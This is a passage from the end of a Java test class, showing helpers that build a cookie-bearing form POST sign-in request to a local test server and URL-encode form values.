                || message.contains("closed");
    }

    private static HttpRequest.Builder signInRequest(String path, String cookie, String form) {
        return HttpRequest.newBuilder(TestServer.baseUri().resolve(path))
                .header("User-Agent", UserAgents.FIREFOX)
                .header("Cookie", cookie)
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(form));
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
